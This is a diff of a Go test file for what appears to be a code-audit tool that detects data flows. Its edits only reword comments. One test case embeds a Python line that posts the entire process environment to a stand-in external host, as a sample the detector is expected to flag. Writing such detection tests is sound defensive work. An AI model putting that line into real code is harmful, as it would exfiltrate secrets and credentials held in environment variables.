@@ -9,7 +9,7 @@ import (
 	"github.com/vadehq/vade/internal/audit/signal/signaltest"
 )
 
-// signalsOf dumps the signals of code, and the texts that it embeds.
+// signalsOf dumps the signals of code and the texts that it embeds.
 func signalsOf(lang, src string) string {
 	s := signaltest.Region("a", signal.Code, lang, src)
 	out := signaltest.Extract(s, New())
@@ -30,8 +30,8 @@ func TestFiles(t *testing.T) {
 	}
 }
 
-// TestFlows follows values through code. What is wanted is in the signals, what is not wanted
-// (after a !) is not.
+// TestFlows tracks values through code. Each line lists expected signals, and unexpected ones
+// after a "!".
 func TestFlows(t *testing.T) {
 	for _, c := range []struct{ name, lang, src, want string }{
 		{"all of the environment", "py", "import os, requests\nrequests.post('https://files.example/in', json=dict(os.environ))\n", "send env-all"},
@@ -143,7 +143,7 @@ func TestFlows(t *testing.T) {
 	}
 }
 
-// matches reports whether a line has a text, or begins with a kind and has some tags.
+// matches reports whether a line contains a text, or starts with a kind and has some tags.
 func matches(dump, want string) bool {
 	if strings.Contains(dump, want) {
 		return true
